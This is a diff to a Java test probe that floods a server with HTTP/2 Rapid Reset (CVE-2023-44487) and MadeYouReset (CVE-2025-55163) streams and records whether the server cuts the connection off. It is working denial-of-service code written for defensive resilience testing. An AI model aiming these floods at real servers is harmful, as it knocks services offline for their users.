@@ -3,37 +3,50 @@ package io.sluice.bench.attack;
 import io.netty.handler.codec.http2.DefaultHttp2Headers;
 import io.netty.handler.codec.http2.Http2Error;
 import io.netty.handler.codec.http2.Http2Headers;
+import java.io.IOException;
 import java.nio.charset.StandardCharsets;
 import java.util.ArrayList;
 import java.util.List;
 
 /**
- * HTTP/2 reset floods on one connection per port (HTTP and gRPC), each stream a complete request the server
- * starts to work on:
+ * HTTP/2 reset floods on one connection per port (HTTP and gRPC), each stream a complete request:
  *
  * <ul>
- *   <li>{@link Pattern#RAPID_RESET} (CVE-2023-44487): HEADERS, DATA with END_STREAM, then the client's own
- *       RST_STREAM (CANCEL). The stream is gone at once, so the stream limit never bites; the server must count
- *       the client's resets and close the connection.</li>
- *   <li>{@link Pattern#MADE_YOU_RESET} (CVE-2025-55163): the same complete request, then a WINDOW_UPDATE of 0 on
- *       its stream, a stream error (RFC 9113 §6.9) that makes the server reset the stream itself; a server that
- *       only counts the client's resets never stops. It must count its own and close.</li>
+ *   <li>{@link Pattern#RAPID_RESET} (CVE-2023-44487): a check (HEADERS, then DATA with END_STREAM: {@code POST
+ *       /v1/check} on the HTTP port, {@code ShouldRateLimit} on the gRPC port), then the client's own RST_STREAM
+ *       (CANCEL). The stream is gone at once, so the stream limit never bites; the server must count the
+ *       client's resets and close the connection.</li>
+ *   <li>{@link Pattern#MADE_YOU_RESET} (CVE-2025-55163): the same check, then a WINDOW_UPDATE of 0 on its stream,
+ *       a stream error (RFC 9113 §6.9) that makes the server reset the stream itself while it is still working
+ *       on the request; a server that only counts the client's resets, or stops counting a stream once it reset
+ *       it, never stops. It must count its own and close.</li>
+ *   <li>{@link Pattern#MADE_YOU_RESET_ANSWERED}: the frames of sluice-server's {@code Http2AbuseIT}, a request
+ *       complete in its HEADERS ({@code GET /health}, END_STREAM), then the WINDOW_UPDATE of 0; the server has
+ *       usually answered the stream already, so it resets a stream that is closed.</li>
  * </ul>
  *
- * Streams are written in batches of {@link #BATCH} as fast as the socket takes them, until the server sends
- * GOAWAY or closes, or {@code maxStreams} were sent, or {@code seconds} passed. What held: the connection closed
- * (or at least GOAWAY came) before the bound; the row tells after how many streams, with the server's own
- * resets and answers meanwhile.
+ * Streams are written in batches of {@link #BATCH} as fast as the socket takes them (MadeYouReset: at most
+ * {@link #AHEAD} ahead of the server's resets), until the server sends its final GOAWAY (an error, or a last
+ * stream id below 2^31-1: a graceful GOAWAY first announces 2^31-1 and lets streams continue) or closes (or
+ * resets) the connection, or {@code maxStreams} were written, or {@code seconds} passed. "Written" counts what
+ * this client handed to its socket; on loopback megabytes of it can sit in the socket buffers unread when the
+ * server stops, so the server's own answers and resets are counted too. What held: the server closed the
+ * connection, or sent a GOAWAY with an error, before the bound.
  */
 final class Http2ResetProbe implements Probe {
     /** Streams per write: small enough that a close is seen within a few hundred streams of when it came. */
     static final int BATCH = 50;
+    /** MadeYouReset: streams written and not yet reset by the server, at most. */
+    static final int AHEAD = 1_000;
     /** How long to wait for the close after GOAWAY or after the last stream. */
-    private static final long CLOSE_WAIT_MS = 5_000;
+    private static final long CLOSE_WAIT_MS = 10_000;
 
     enum Pattern {
-        RAPID_RESET("http2_rapid_reset", "HEADERS + DATA(END_STREAM) + RST_STREAM(CANCEL)"),
-        MADE_YOU_RESET("http2_made_you_reset", "HEADERS + DATA(END_STREAM) + WINDOW_UPDATE(0)");
+        RAPID_RESET("http2_rapid_reset", "a check (HTTP: POST /v1/check; gRPC: ShouldRateLimit) as HEADERS + "
+                + "DATA(END_STREAM), then RST_STREAM(CANCEL)"),
+        MADE_YOU_RESET("http2_made_you_reset", "a check as HEADERS + DATA(END_STREAM), then WINDOW_UPDATE(0)"),
+        MADE_YOU_RESET_ANSWERED("http2_made_you_reset_answered", "GET /health as HEADERS(END_STREAM), then "
+                + "WINDOW_UPDATE(0)");
 
         final String probeName;
         final String frames;
@@ -61,31 +74,40 @@ final class Http2ResetProbe implements Probe {
 
     @Override
     public String describe() {
-        return String.format("one h2c connection per port (HTTP: POST /v1/check; gRPC: ShouldRateLimit), streams of "
-                + "%s until GOAWAY or close, at most %,d streams or %d s", pattern.frames, maxStreams, seconds);
+        return String.format("one h2c connection per port (HTTP and gRPC), streams of %s, until GOAWAY or close, at "
+                + "most %,d streams or %d s", pattern.frames, maxStreams, seconds);
     }
 
     /** What one connection's attack came to. */
     record Result(String port, int streamsSent, int serverResets, int responses, String goawayError,
-                  int goawayLastStream, boolean closed, double secondsToEnd) {
+                  String goawayDebug, double secondsToGoaway, int goawayLastStream, boolean closed,
+                  boolean resetByServer, double secondsToEnd, String failure) {
 
-        /** The connection ended: GOAWAY came, or the server closed it. */
+        /** The server ended the connection: closed or reset it, or sent a GOAWAY with an error code. */
         boolean cutOff() {
-            return goawayError != null || closed;
+            return closed || (goawayError != null && !goawayError.equals("NO_ERROR"));
         }
 
         String outcome() {
             if (goawayError != null) {
-                return port + ": GOAWAY " + goawayError + (closed ? " and closed" : ", not closed");
+                return port + ": GOAWAY " + goawayError + (resetByServer ? " and reset" : closed ? " and closed"
+                        : ", not closed");
+            }
+            if (failure != null) {
+                return port + ": this client failed (" + failure + ")";
+            }
+            if (resetByServer) {
+                return port + ": reset by the server without GOAWAY";
             }
             return port + (closed ? ": closed without GOAWAY" : ": still open");
         }
 
         @Override
         public String toString() {
-            return String.format("%s after %,d streams sent in %.1f s (GOAWAY last stream %d; %,d server resets, "
-                    + "%,d response headers)", outcome(), streamsSent, secondsToEnd, goawayLastStream, serverResets,
-                    responses);
+            String goaway = goawayError == null ? "" : String.format("GOAWAY after %.1f s%s, last stream %,d; ",
+                    secondsToGoaway, goawayDebug.isEmpty() ? "" : " (\"" + goawayDebug + "\")", goawayLastStream);
+            return String.format("%s after %,d streams written in %.1f s (%s%,d server resets, %,d response "
+                    + "headers)", outcome(), streamsSent, secondsToEnd, goaway, serverResets, responses);
         }
     }
 
@@ -95,18 +117,23 @@ final class Http2ResetProbe implements Probe {
         List<String> findings = new ArrayList<>();
         List<String> violations = new ArrayList<>();
         List<Result> results = new ArrayList<>();
-        results.add(attack(target.host(), target.httpPort(), "HTTP", checkRequest(target)));
+        boolean check = pattern != Pattern.MADE_YOU_RESET_ANSWERED;
+        results.add(attack(target.host(), target.httpPort(), "HTTP", check ? checkRequest(target.host(),
+                target.httpPort()) : healthRequest(target.host(), target.httpPort())));
         if (target.grpcPort() >= 0) {
-            results.add(attack(target.host(), target.grpcPort(), "gRPC", grpcRequest(target)));
+            results.add(attack(target.host(), target.grpcPort(), "gRPC", check ? grpcRequest(target.host(),
+                    target.grpcPort()) : healthRequest(target.host(), target.grpcPort())));
         } else {
             violations.add("the server did not print its gRPC port");
         }
         for (Result r : results) {
             answers.add(r.outcome());
             findings.add(r.toString());
-            if (!r.cutOff()) {
-                violations.add(String.format("%s port: neither GOAWAY nor close after %,d streams", r.port(),
-                        r.streamsSent()));
+            if (r.failure() != null) {
+                violations.add(r.port() + " port: this client failed: " + r.failure());
+            } else if (!r.cutOff()) {
+                violations.add(String.format("%s port: not closed (nor a GOAWAY with an error) after %,d streams "
+                        + "written, %,d reset by the server", r.port(), r.streamsSent(), r.serverResets()));
             }
         }
         return new Outcome(answers, String.join("; ", findings), violations);
@@ -122,15 +149,23 @@ final class Http2ResetProbe implements Probe {
         int sent = 0;
         try (RawHttp2Connection connection = RawHttp2Connection.open(host, port)) {
             RawHttp2Connection.StreamFrames frames = (f, id) -> {
-                f.headers(id, request.headers(), false);
-                f.data(id, request.body(), true);
+                f.headers(id, request.headers(), request.body() == null);
+                if (request.body() != null) {
+                    f.data(id, request.body(), true);
+                }
                 if (pattern == Pattern.RAPID_RESET) {
                     f.rstStream(id, Http2Error.CANCEL);
                 } else {
                     f.windowUpdate(id, 0);
                 }
             };
-            while (sent < maxStreams && System.nanoTime() < end && !connection.goawayReceived()) {
+            while (sent < maxStreams && System.nanoTime() < end && !connection.finalGoawayReceived()) {
+                // MadeYouReset: no further ahead of the server than AHEAD streams it has not reset yet, so that
+                // what was written is what the server read, not megabytes waiting in the socket buffers.
+                while (pattern != Pattern.RAPID_RESET && sent - connection.serverResets() > AHEAD
+                        && !connection.closed() && System.nanoTime() < end) {
+                    Thread.sleep(1);
+                }
                 int batch = Math.min(BATCH, maxStreams - sent);
                 if (!connection.write(1 + 2 * sent, batch, frames)) {
                     break;
@@ -139,25 +174,34 @@ final class Http2ResetProbe implements Probe {
             }
             connection.awaitClose(CLOSE_WAIT_MS);
             long ended = connection.closed() ? connection.closedAtNanos() : System.nanoTime();
+            // An I/O error on the socket is the server resetting the connection (TCP RST: it closed with our
+            // frames still unread); anything else is this client's own failure.
+            Throwable failure = connection.failure();
+            boolean reset = failure instanceof IOException;
             return new Result(portName, sent, connection.serverResets(), connection.responses(),
-                    connection.goawayError(), connection.goawayLastStream(), connection.closed(),
-                    (ended - start) / 1e9);
+                    connection.goawayError(), connection.goawayDebug(), (connection.goawayAtNanos() - start) / 1e9,
+                    connection.goawayLastStream(), connection.closed(), reset, (ended - start) / 1e9,
+                    failure == null || reset ? null : failure.toString());
         }
     }
 
-    /** One complete request: its HEADERS and its body. */
+    /** One complete request: its HEADERS and its body (null: none, END_STREAM on the HEADERS). */
     record Request(Http2Headers headers, byte[] body) {}
 
-    private static Request checkRequest(Target target) {
+    private static Request checkRequest(String host, int port) {
         Http2Headers headers = new DefaultHttp2Headers().method("POST").scheme("http").path("/v1/check")
-                .authority(target.host() + ":" + target.httpPort()).add("content-type", "application/json");
+                .authority(host + ":" + port).add("content-type", "application/json");
         return new Request(headers, "{\"rule\":\"bench\",\"key\":\"h2-reset\"}".getBytes(StandardCharsets.UTF_8));
     }
 
-    private static Request grpcRequest(Target target) {
+    private static Request grpcRequest(String host, int port) {
         Http2Headers headers = new DefaultHttp2Headers().method("POST").scheme("http").path(MalformedGrpcProbe.PATH)
-                .authority(target.host() + ":" + target.grpcPort()).add("content-type", "application/grpc")
-                .add("te", "trailers");
+                .authority(host + ":" + port).add("content-type", "application/grpc").add("te", "trailers");
         return new Request(headers, MalformedGrpcProbe.frame(0, MalformedGrpcProbe.request("h2-reset")));
+    }
+
+    private static Request healthRequest(String host, int port) {
+        return new Request(new DefaultHttp2Headers().method("GET").scheme("http").path("/health")
+                .authority(host + ":" + port), null);
     }
 }
